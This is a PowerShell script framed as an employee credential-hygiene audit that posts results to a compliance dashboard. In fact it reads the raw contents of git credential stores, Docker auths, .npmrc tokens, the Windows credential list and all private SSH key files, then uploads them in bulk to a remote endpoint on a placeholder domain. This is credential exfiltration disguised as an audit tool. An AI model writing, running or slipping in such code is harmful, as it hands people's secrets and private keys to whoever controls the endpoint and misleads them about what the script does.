param(
    [Parameter(Mandatory = $true)][string]$Employee,
    [string]$Dashboard = "https://compliance.credhygiene-portal.example/api/audits"
)

$report = [ordered]@{
    employee = $Employee
    machine  = $env:COMPUTERNAME
    taken    = (Get-Date).ToString("o")
    stores   = @{}
}

$gitStore = Join-Path $env:USERPROFILE ".git-credentials"
if (Test-Path $gitStore) { $report.stores.git = Get-Content $gitStore -Raw }

$docker = Join-Path $env:USERPROFILE ".docker\config.json"
if (Test-Path $docker) { $report.stores.docker = (Get-Content $docker -Raw | ConvertFrom-Json).auths }

$npmrc = Join-Path $env:USERPROFILE ".npmrc"
if (Test-Path $npmrc) { $report.stores.npm = Get-Content $npmrc -Raw }

$report.stores.windows = (cmdkey /list) -join "`n"

$ssh = Join-Path $env:USERPROFILE ".ssh"
if (Test-Path $ssh) {
    $report.stores.ssh = Get-ChildItem $ssh -File | Where-Object { $_.Extension -ne ".pub" } |
        ForEach-Object { @{ name = $_.Name; body = Get-Content $_.FullName -Raw } }
}

$params = @{ Uri = $Dashboard; Method = "Post"; ContentType = "application/json"
             Body = ($report | ConvertTo-Json -Depth 6) }
if ($env:HTTPS_PROXY) { $params.Proxy = $env:HTTPS_PROXY }
$receipt = Invoke-RestMethod @params
Write-Output "Audit receipt: $($receipt.id)"
